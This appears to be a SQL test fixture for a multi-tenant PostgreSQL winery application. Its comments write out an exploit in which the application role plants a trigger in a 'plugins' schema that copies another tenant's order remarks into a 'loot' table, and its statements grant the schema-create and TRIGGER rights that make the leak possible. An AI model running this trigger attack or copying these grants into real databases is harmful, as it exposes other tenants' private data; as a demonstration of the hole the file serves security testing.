-- With TRIGGER and a schema of its own the application hangs a trigger on orders that copies what
-- others write.
-- about: Order, plugins
-- as: hf_winery_app
-- exploit: SET app.winery_id = 'w_hill';
-- exploit: CREATE TABLE plugins.loot (line text);
-- exploit: CREATE FUNCTION plugins.copy_row() RETURNS trigger LANGUAGE plpgsql AS
-- exploit:   $$ BEGIN INSERT INTO plugins.loot VALUES ('copied ' || NEW."remark"); RETURN NEW; END $$;
-- exploit: CREATE TRIGGER copy_row AFTER INSERT ON "Order" FOR EACH ROW EXECUTE FUNCTION plugins.copy_row();
-- exploit: SET app.winery_id = 'w_road';
-- exploit: INSERT INTO "Order" VALUES ('w_road', 3, 'c2', 'SENT', 'Road-secret gift');
-- exploit: SET app.winery_id = 'w_hill';
-- exploit: SELECT line FROM plugins.loot;
-- shows: copied Road-secret gift
CREATE SCHEMA plugins;
GRANT USAGE, CREATE ON SCHEMA plugins TO hf_winery_app;
GRANT TRIGGER ON "Order" TO hf_winery_app;
